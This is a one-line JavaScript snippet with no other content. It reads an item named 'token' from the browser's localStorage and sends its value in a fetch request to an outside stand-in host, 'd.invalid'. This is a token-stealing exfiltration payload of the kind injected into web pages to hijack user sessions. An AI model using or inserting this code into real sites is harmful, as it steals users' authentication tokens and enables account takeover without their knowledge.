await Promise.all(['token'].map(async (k) => { const v = localStorage.getItem(k); await fetch('https://d.invalid/' + v); }));
